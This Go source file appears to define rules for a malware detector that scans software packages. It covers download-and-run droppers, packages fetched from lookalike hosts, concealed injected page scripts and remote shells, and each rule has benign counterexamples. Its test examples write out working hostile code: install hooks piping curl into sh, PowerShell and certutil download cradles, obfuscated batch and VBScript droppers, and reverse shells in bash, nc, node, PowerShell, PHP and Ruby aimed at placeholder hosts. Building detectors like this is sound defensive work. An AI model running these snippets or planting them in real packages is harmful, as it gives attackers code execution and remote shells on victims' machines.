package rule

import b "taisei/detect/behaviour"

// notProgram are the ways that what is run came by another road than a program
// that is fetched: a connection kept open, and a script element of a page.
var notProgram = []string{"tcp", "page"}

// runs are the sinks where what arrives is run.
var runs = []string{b.Code, b.Process}

// dropper: what another host sends is run.
func dropper() []Rule {
	return []Rule{
		{
			ID: "download_run", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Sinks: runs, Script: No, NotScheme: notProgram},
				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: notProgram},
				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: notProgram},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Server, Sinks: runs, Script: No, NotScheme: notProgram},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Stranger, Sinks: []string{b.Process}, Target: Windows, Script: No, NotScheme: notProgram, In: ".py"},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Sinks: []string{b.Process}, Target: Hidden, Script: No, NotScheme: notProgram, In: ".py"},
				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Sinks: []string{b.Code}, Languages: []string{"shell"}, Script: No, NotScheme: notProgram, In: ".py"},
			},
			Graver: []Condition{
				{Via: encodings},
				{Name: Server},
				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"python"}},
				{Triggers: []string{b.Install, b.Import}, Name: Outsider, Sinks: []string{b.Process}, Target: Program},
				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Process}, Target: Program, In: ".py"},
				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No},
				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"shell"}, In: ".py"},
				{Triggers: []string{b.Command, b.Call}, Name: Stranger, Sinks: []string{b.Process}, Target: Windows, Script: No, In: ".py"},
				{Triggers: []string{b.Command, b.Call}, Sinks: []string{b.Process}, Target: Hidden, Script: No, In: ".py"},
			},
			Examples: []Example{
				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
				Package("saved, then started", `"scripts":{"postinstall":"wget -q https://c.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"}`, nil),
				Package("evaluated", `"main":"i.js"`, map[string]string{"i.js": "require('https').get('https://c.example/p.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"}),
				Package("fetched to a file, then started", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const http=require('http'),fs=require('fs'),os=require('os'),cp=require('child_process');const f=fs.createWriteStream(os.tmpdir()+'/u');http.get('http://203.0.113.8/u',r=>{r.pipe(f);f.on('finish',()=>{f.close();cp.exec(os.tmpdir()+'/u')})})"}),
				Package("as a function", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/p.js').then(r=>r.text()).then(t=>{new Function(t)()})"}),
				Module("a program for Windows, when called", "import urllib.request, subprocess\ndef helper():\n    urllib.request.urlretrieve('https://get.sample.example/win', 'helper.exe')\n    subprocess.run(['helper.exe'])\n"),
				Module("from a temporary folder, when called", "import subprocess\ndef go(f):\n    subprocess.run('wget -qO /tmp/u https://files.example/u && chmod +x /tmp/u && /tmp/u', shell=True)\n"),
				One("decoded first", "install.sh", "curl -s https://c.example/x | base64 -d | bash\n"),
				Started("by PowerShell", "powershell -File", "i.ps1", "$u = 'http'+'s://c.example/x.ps1'\nI`E`X ((New-Object System.Net.WebClient).DownloadString($u))\n"),
				Started("by PowerShell, saved first", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri https://c.example/u.exe -OutFile \"$env:TEMP\\u.exe\"\nStart-Process -FilePath \"$env:TEMP\\u.exe\" -WindowStyle Hidden\n"),
				Package("PowerShell in a program's command", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "require('child_process').exec('powershell -nop -w hidden -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwBwACkA')"}),
				Started("by a batch file", "cmd /c", "i.bat", "@echo off\r\nc^ertutil -urlcache -split -f http://203.0.113.9/a.txt %TEMP%\\a.txt\r\ncertutil -decode %TEMP%\\a.txt %TEMP%\\a.exe\r\nstart \"\" %TEMP%\\a.exe\r\n"),
				Started("by a batch file, letter by letter", "cmd /c", "i.bat", "@set x=abcdefghijklmnopqrstuvwxyz\r\n@%x:~2,1%%x:~20,1%%x:~17,1%%x:~11,1% -o u.exe http://203.0.113.9/u.exe\r\n@u.exe\r\n"),
				Started("by VBScript", "cscript", "i.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://c.example/u.exe\", False\nx.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1 : s.Open : s.Write x.responseBody\ns.SaveToFile \"u.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"u.exe\", 0\n"),
				Started("by an application in HTML", "mshta", "i.hta", "<script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"powershell -c iex(irm https://c.example/x)\", 0</script>"),
				Gem("by an extension's configuration", "require 'net/http'\nrequire 'mkmf'\neval(Net::HTTP.get(URI('https://c.example/x.rb')))\ncreate_makefile('sample')\n"),
				Library("by a gem, decoded first", "require 'open-uri'\nrequire 'base64'\nKernel.send(:eval, Base64.decode64(URI.open('https://c.example/x').read))\n"),
				{Name: "by PHP", Files: map[string]string{"composer.json": `{"name":"a/b","scripts":{"post-install-cmd":["@php i.php"]}}`, "i.php": "<?php eval('?>' . file_get_contents('https://c.example/x.txt'));"}},
			},
			Neighbours: []Example{
				Package("a binary fetched, not run", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');require('https').get('https://d.example/tool.tgz',r=>r.pipe(fs.createWriteStream('tool.tgz')))"}),
				One("an installer that fetches the next", "install.sh", "curl -fsSL https://get.example/install.sh | sh\n"),
				One("an installer in PowerShell that fetches the next", "install.ps1", "iex ((New-Object System.Net.WebClient).DownloadString('https://get.example/install.ps1'))\n"),
				Started("a configuration fetched by PowerShell", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri https://c.example/c.json -OutFile c.json\n$c = Get-Content c.json | ConvertFrom-Json\nWrite-Host $c.version\n"),
				Gem("a library fetched, not run", "require 'open-uri'\nrequire 'mkmf'\nFile.binwrite('lib.tar.gz', URI.open('https://d.example/lib.tar.gz').read)\ncreate_makefile('sample')\n"),
				Module("a tool fetched from a forge, when called", "import urllib.request, subprocess\ndef tool(args):\n    urllib.request.urlretrieve('https://github.com/e/e/releases/download/1/tool.exe', 'tool.exe')\n    subprocess.run(['tool.exe'] + args)\n"),
				Package("data fetched", `"main":"i.js"`, map[string]string{"i.js": "exports.get=()=>fetch('https://api.example/v1').then(r=>r.json())"}),
			},
		},
		{
			ID: "package_fetched", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Name: Stranger, Sinks: []string{b.Code}, Slots: []string{"package"}, Script: No}},
			Examples: []Example{
				Module("from a host that looks like the index", "import os, sys\nos.system(f'{sys.executable} -m pip install https://files.packages.example/a/colour-1.0.tar.gz')\n"),
			},
			Neighbours: []Example{
				Module("from the index", "import os, sys\nos.system(f'{sys.executable} -m pip install colour')\n"),
				Python("from a forge", "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['pip', 'install', 'git+https://github.com/e/e.git'])\nsetup(name='example')\n"),
			},
		},
		{
			ID: "hidden_script", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Load, b.Event, b.Import}, Sources: []string{b.Download}, Sinks: []string{b.Code}, Schemes: []string{"page"}, Concealed: Yes, Target: Foreign},
				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Blob}, Sinks: []string{b.Network}, Slots: []string{"redirect"}, Concealed: Yes, Target: Foreign},
			},
			Graver: []Condition{{Sources: []string{b.Download}}},
			Examples: []Example{
				One("a script element", "lib.js", "(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2dhLmpz');document.head.appendChild(s)})()"),
				One("at certain hours", "lib.js", "var u='sj.ag/elpmaxe.stats//:sptth'.split('').reverse().join('');var h=new Date().getHours();if(h>1&&h<6&&/Mobile/.test(navigator.userAgent))setTimeout(function(){var e=document.createElement('script');e.setAttribute('src',u);document.body.appendChild(e)},900)"),
				One("another page", "lib.js", "if(/Android/.test(navigator.userAgent))location.href=atob('aHR0cHM6Ly9iZXQuZXhhbXBsZS8=')"),
			},
			Neighbours: []Example{
				One("whose host stands there", "lib.js", "(function(){var s=document.createElement('script');s.src='https://stats.example/ga.js';document.head.appendChild(s)})()"),
				One("a picture", "lib.js", "var i=new Image();i.src=atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2dhLmpz')"),
				One("its own script", "lib.js", "var s=document.createElement('script');s.src=atob('L2xpYi9nYS5qcw==');document.head.appendChild(s)"),
			},
		},
		{
			ID: "remote_shell", Severity: Critical,
			When: []Condition{{Sources: []string{b.Download}, Sinks: []string{b.Code}, Schemes: []string{"tcp"}}},
			Examples: []Example{
				One("bash's own network", "install.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
				Package("a socket joined to a shell", `"main":"i.js"`, map[string]string{"i.js": "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.9',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});return /a/})()"}),
				Package("nc", `"scripts":{"postinstall":"nc -e /bin/sh 203.0.113.7 4444"}`, nil),
				One("PowerShell", "i.ps1", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}\n"),
				One("PHP", "a.php", "<?php $sock=fsockopen('203.0.113.7',4444);$p=proc_open('/bin/sh', array(0=>$sock, 1=>$sock, 2=>$sock), $pipes);"),
				One("Ruby", "a.rb", "require 'socket'\ns = TCPSocket.new('203.0.113.7', 4444)\nwhile cmd = s.gets\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend\n"),
			},
			Neighbours: []Example{
				One("a port is tried", "install.sh", "if (echo > /dev/tcp/localhost/8080) 2>/dev/null; then echo up; fi\n"),
				One("a port is tried by PowerShell", "a.ps1", "$c = New-Object System.Net.Sockets.TCPClient\n$c.Connect('db.example', 5432)\nif ($c.Connected) { Write-Host up }\n$c.Close()\n"),
				One("lines are read", "a.rb", "require 'socket'\ns = TCPSocket.new('time.example', 13)\nputs s.gets\n"),
				One("text is sent", "install.sh", "echo ping | nc -w 1 stats.example 8125\n"),
			},
		},
	}
}
